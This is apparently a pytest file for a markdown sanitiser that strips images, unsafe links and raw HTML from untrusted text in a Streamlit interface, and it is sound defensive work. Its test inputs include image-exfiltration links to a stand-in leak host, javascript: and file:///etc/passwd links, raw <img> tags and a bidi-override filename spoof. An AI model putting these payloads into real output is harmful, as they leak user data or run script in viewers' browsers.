"""ui/safe_text: untrusted markdown keeps its formatting but loses images, unsafe links and raw HTML.

Checked by parsing what comes out with markdown-it again (the browser test in test_safe_text_browser.py
checks Streamlit's own renderer in Chromium)."""

from __future__ import annotations

import random

import pytest
from markdown_it import MarkdownIt

from core.names import BIDI_CONTROLS, escaped, without_bidi_controls
from ui.safe_text import link, plain, safe_markdown

MD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LEAK = "http://127.0.0.1:9/leak?data=secret"


def tokens(text: str):
    for token in MD.parse(text):
        yield token
        yield from token.children or []


def assert_safe(markdown: str) -> None:
    """No image, no raw HTML, and only http(s) links, as a CommonMark parser reads the output."""
    for token in tokens(markdown):
        assert token.type != "image", markdown
        assert token.type not in ("html_inline", "html_block"), markdown
        if token.type == "link_open":
            assert str(token.attrs["href"]).startswith(("http://", "https://")), markdown


@pytest.mark.parametrize(
    "hostile",
    [
        f"![x]({LEAK})",
        f'text ![x]({LEAK} "title") more',
        f"![ref][r]\n\n[r]: {LEAK}",
        f"![r]\n\n[r]: <{LEAK}>",
        f"[![badge]({LEAK})](https://example.com/)",
        f"- item ![x]({LEAK})\n  > quote ![y]({LEAK})",
        f"| a | b |\n| - | - |\n| ![c]({LEAK}) | d |",
        f'<img src="{LEAK}">',
        f"<div>\n<img src='{LEAK}'>\n</div>",
        f"<p><img src={LEAK}></p>\n\nafter",
        f"\\![not an image]({LEAK})",  # already text: stays text
        f"&#33;[x]({LEAK})",  # an entity that decodes to "!"
        f"!\\[x]({LEAK})",
        f"![x](<{LEAK}>)",
        f"$math$ ![x]({LEAK}) $$\\frac{{1}}{{2}}$$",
        f"$[x]({LEAK})$",  # brackets inside math: not kept as math
        f"`code` ``![x]({LEAK})`` ![y]({LEAK})",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        f"{'>' * 40} ![x]({LEAK})",  # nested past the parser's limit
        "".join(" " * (2 * i) + f"- ![x]({LEAK})\n" for i in range(30)),
    ],
)
def test_images_become_text_placeholders(hostile):
    out = safe_markdown(hostile)
    assert_safe(out)
    assert "127.0.0.1:9" not in "".join(t.attrs.get("src", "") for t in tokens(out))


def test_a_blocked_image_says_what_it_was():
    out = safe_markdown(f"See ![the chart]({LEAK}).")
    html = MD.render(out)
    assert "[image: the chart](<code>http://127.0.0.1:9/leak?data=secret</code>)" in html
    assert "<img" not in html and "<a " not in html  # shown as text, not even as a link


@pytest.mark.parametrize(
    "source, href",
    [
        ("[site](https://example.com/x_(y))", "https://example.com/x_(y)"),
        ("[a](<https://example.com/a b>)", "https://example.com/a%20b"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ('[t](https://example.com/p "a title")', "https://example.com/p"),
    ],
)
def test_http_links_keep_their_target(source, href):
    out = safe_markdown(source)
    links = [t.attrs["href"] for t in tokens(out) if t.type == "link_open"]
    assert links == [href]
    assert 'title="' not in MD.render(out)


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](/relative/path)",
        "[x](data:text/html,hi)",
        "<mailto:a@b.example>",
        "[x](#anchor)",
    ],
)
def test_other_links_keep_only_their_text(source):
    out = safe_markdown(source)
    assert_safe(out)
    assert not any(t.type == "link_open" for t in tokens(out))


def test_a_closing_paren_in_a_url_cannot_add_markdown():
    out = link("Title ) ![x](y", f"https://example.com/a)![x]({LEAK})")
    found = list(tokens(out))
    assert [t.attrs["href"] for t in found if t.type == "link_open"] == [
        "https://example.com/a)!%5Bx%5D(http://127.0.0.1:9/leak?data=secret)"
    ]
    assert_safe(out)
    assert "Title ) ![x](y" in MD.render(out)
    assert link("Tax forms", "javascript:alert(1)") == "Tax forms"


BENIGN = [
    "# Title\n\nSome **bold**, *em*, ~~struck~~ and `code` text.",
    "Para one\nline two\\\nhard break\n\nPara *two* with a [link](https://example.com/a_b?q=1&r=2#frag).",
    "1. one\n2. two\n   - nested *em*\n   - nested 2\n\n3) other list",
    "- tight\n- list\n\n* loose\n\n* list",
    "> quote with **bold**\n>\n> > nested quote\n\n---\n\nafter",
    "```python\nprint('![x](http://e/)')\n```\n\n    indented code\n\n~~~\ntilde fence\n~~~",
    "| left | right | centre |\n|:--|--:|:-:|\n| 1 \\| pipe | `code` | **b** |",
    "Escapes: \\*not em\\* \\_no\\_ \\# \\[no link\\] &amp;amp; &copy; 5 < 6 > 4 a_b_c",
    "Setext\n======\n\nSub\n---",
    "- [ ] todo\n- [x] done",
    "A line\n# heading right after\n+ plus list",
    "Text with HTML <b>bold</b> and <!-- comment -->",
    "2024. A year.\n\n\\- not a list\n\n\\+ nor this",
    "Math $a_b^2 + \\alpha$ and $$\\sum_{i=1}^n x_i$$ stay math.",
    "Heading #\n\n## Ends with hashes \\##",
]


@pytest.mark.parametrize("source", BENIGN)
def test_formatting_is_kept(source):
    """Without images, the output renders to the same HTML as the input, HTML shown as text aside."""
    out = safe_markdown(source)
    if "<b>" in source or "<!--" in source:
        assert "&lt;b&gt;bold&lt;/b&gt;" in MD.render(out) and "&lt;!-- comment --&gt;" in MD.render(out)
    else:
        assert MD.render(out) == MD.render(source)


FRAGMENTS = [
    "![a](",
    LEAK,
    ")",
    "[",
    "]",
    "(",
    "<",
    ">",
    "!",
    "`",
    "``",
    "$",
    "$$",
    "*",
    "_",
    "~~",
    "|",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "1. ",
    "# ",
    "    ",
    "<img src=",
    "&#33;",
    "&amp;",
    "\\",
    "[r]: ",
    "[r]",
    "---",
    "```",
    "text",
    " ",
    "https://example.com/",
    "javascript:",
    "<|eot_id|>",
    ":red[",
    ":material/x:",
]


def test_random_hostile_text_never_yields_an_image_and_a_second_pass_changes_nothing():
    rng = random.Random(11)
    for _ in range(600):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 40)))
        out = safe_markdown(text)
        assert_safe(out)
        assert MD.render(safe_markdown(out)) == MD.render(out), text


def test_plain_is_text_only():
    text = "![x](http://e/) **b** <img src=x> [l](http://e/) `c` :red[x] # h\n- item"
    out = plain(text)
    assert_safe(out)
    parsed = [t for t in tokens(out) if t.type not in ("paragraph_open", "paragraph_close", "inline")]
    assert [t.type for t in parsed] == ["text"]
    assert parsed[0].content == text.replace("\n", " ")


def test_long_and_deep_text_stays_quick():
    import time

    for text in ("[" * 32000, "$ [ " * 8000, "*a " * 10000, ">" * 32000, "- " * 16000, "![a](http://x/y.png) " * 1500):
        started = time.perf_counter()
        assert_safe(safe_markdown(text))
        assert time.perf_counter() - started < 3, text[:20]


@pytest.mark.parametrize("control", sorted(BIDI_CONTROLS))
def test_bidi_controls_in_titles_and_names_cannot_reorder_the_line(control):
    title = f"invoice{control}fdp.exe"  # an override would draw it as "invoiceexe.pdf"
    assert plain(title) == "invoice\ufffdfdp\\.exe"
    assert without_bidi_controls(title) == "invoice\ufffdfdp.exe"


def test_escaped_names_carry_anywhere_and_never_pass_for_another():
    assert escaped("欢欢".encode("gbk").decode("utf-8", "surrogateescape")) == "\\xbb\\xb6\\xbb\\xb6"
    assert escaped("a\ud800b\x1b\u202e\u200b\u2028") == "a\\ud800b\\x1b\\u202e\\u200b\\u2028"
    assert escaped("captain-quill") == "captain-quill" and escaped("海盗 ⚓") == "海盗 ⚓"
    assert escaped("a" * 65) == "a" * 63 + "…"  # not the valid name "a" * 64
    for name in ("\udcff", "\ud800", "x\x00" * 100):
        escaped(name).encode("utf-8")  # protobuf and JSON carry it


def test_chat_messages_keep_their_lines_and_typed_indentation():
    poem = "Roses are red\nViolets are blue"
    assert safe_markdown(poem) == poem  # markdown's own meaning: one paragraph, the lines joined on screen
    assert safe_markdown(poem, keep_lines=True) == "Roses are red\\\nViolets are blue"  # a hard break each
    code = "def f():\n    return 1\n\tpass"
    kept = safe_markdown(code, keep_lines=True, keep_indents=True)
    assert kept == "def f():\\\n" + "\u00a0" * 4 + "return 1\\\n" + "\u00a0" * 4 + "pass"
    lists = "- a\n  - b\n1. c"  # list items keep their markdown meaning; fenced code keeps its own spaces
    assert safe_markdown(lists, keep_lines=True, keep_indents=True) == safe_markdown(lists)
    fenced = "```\n  x\n```"
    assert safe_markdown(fenced, keep_lines=True, keep_indents=True) == fenced
    image = safe_markdown("![x](http://e.com/a.png)\nnext", keep_lines=True)  # still no remote image
    assert image.startswith("\\[image\\: x\\]") and image.endswith("\\\nnext")
